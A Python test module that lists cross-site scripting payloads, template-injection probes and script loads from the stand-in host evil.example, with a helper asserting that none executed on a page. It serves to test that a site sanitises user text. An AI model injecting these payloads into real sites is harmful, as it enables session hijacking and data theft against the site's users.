"""Texts that would run if a page took them for more than text, and how a page shows that none did."""

RUNS = "window.canary=1"
TAGS = [
    f"<script>{RUNS}</script>",
    f"<ScRiPt src=data:text/javascript,{RUNS}></ScRiPt>",
    f"<script type=module>{RUNS}</script>",
    f"<scr<script>ipt>{RUNS}</scr</script>ipt>",
    f"</title><script>{RUNS}</script>",
    f"</textarea><script>{RUNS}</script>",
    f"--><script>{RUNS}</script>",
    f"]]><script>{RUNS}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<iframe src='javascript:{RUNS}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUNS}</script>'></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.svg>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example><button>Send</button></form>",
    "<input autofocus onfocus=window.canary=1>",
    "<template><img src=x></template>",
    f"<svg><script>{RUNS}</script></svg>",
    f"<svg><a xlink:href='javascript:{RUNS}'><text>x</text></a></svg>",
    f"<svg><animate onbegin={RUNS} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={RUNS}></mtext></math>",
    f"<math href='javascript:{RUNS}'>x</math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUNS}>'>",
]
HANDLERS = [
    f"<{tag} {event}={RUNS}{rest}>"
    for tag, event, rest in (
        ("img src=x", "onerror", ""),
        ("img src=x", "oNeRrOr", " /"),
        ("img/src=x", "onerror", "//"),
        ("svg", "onload", ""),
        ("body", "onload", ""),
        ("details open", "ontoggle", ""),
        ("video", "onerror", "><source src=x"),
        ("audio src=x", "onerror", ""),
        ("marquee", "onstart", ""),
        ("p tabindex=0 autofocus", "onfocus", ""),
        ("div style=animation-name:x", "onanimationstart", ""),
        ("object data=x", "onerror", ""),
        ("select autofocus", "onfocus", ""),
        ("b", "onmouseover", ""),
        ("a href=x", "onclick", ""),
    )
]
ADDRESSES = [
    f"[x](javascript:{RUNS})",
    f"[x](JaVaScRiPt:{RUNS})",
    f"[x]( javascript:{RUNS})",
    f"[x](java\tscript:{RUNS})",
    f"[x](&#106;avascript:{RUNS})",
    f"[x](data:text/html,<script>{RUNS}</script>)",
    f"[x](vbscript:{RUNS})",
    f"![x](javascript:{RUNS})",
    "![x](//evil.example/x.png)",
    f"<javascript:{RUNS}>",
    f"<a href=javascript:{RUNS}>x</a>",
    f"<a href='  javascript:{RUNS}'>x</a>",
    f'[x](/ "onclick={RUNS}")',
    f'[x](" onmouseover={RUNS} ")',
]
ATTRIBUTES = [
    f'" onfocus={RUNS} autofocus="',
    f"' onfocus={RUNS} autofocus='",
    f'"><img src=x onerror={RUNS}>',
    f"'><svg onload={RUNS}>",
    "`${alert(1)}`",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
BY_AUTHORS = TAGS + HANDLERS + ADDRESSES + ATTRIBUTES
TEMPLATES = ["{{ 7*7191 }}", "{% raw %}", "${7*7191}", "#{7*7191}", "<%= 7*7191 %>", "{{config}}", "{{''.__class__}}"]
BY_RESPONDENTS = BY_AUTHORS + TEMPLATES


def nothing_ran(page, seen: list[str]) -> None:
    """Nothing suspicious was seen, and nothing on the page as it stands could still run."""
    assert [what for what in seen if not what.startswith("data:image")] == [], page.url
    assert page.evaluate("window.canary === undefined"), page.url
    assert "50337" not in page.content(), page.url
    assert page.locator("main script, main iframe, main object, main base, main [onerror], main [onfocus]").count() == 0
    links = page.evaluate("[...document.links].map(link => link.protocol)")
    assert set(links) <= {"http:", "https:", "mailto:"}, page.url
